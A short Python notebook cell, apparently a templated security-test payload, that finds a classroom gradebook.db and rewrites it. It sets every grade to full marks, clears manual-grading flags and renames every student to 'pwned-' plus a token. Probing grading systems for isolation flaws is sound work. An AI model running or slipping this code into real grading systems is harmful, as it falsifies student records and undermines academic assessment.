# %% [markdown]
# Opens the gradebook and gives every student full marks.

# %% first
import os
import sqlite3

for path in (__CLASSROOM__ + "/gradebook.db", os.environ.get("CLASSROOM", "..") + "/gradebook.db", "../gradebook.db"):
    if os.path.exists(path):
        with sqlite3.connect(path, timeout=1) as book:
            book.execute("UPDATE grade SET manual_score = 3.0, needs_manual_grade = 0")
            book.execute("UPDATE student SET first_name = 'pwned-__TOKEN__'")
        print("GOT: the gradebook was written")
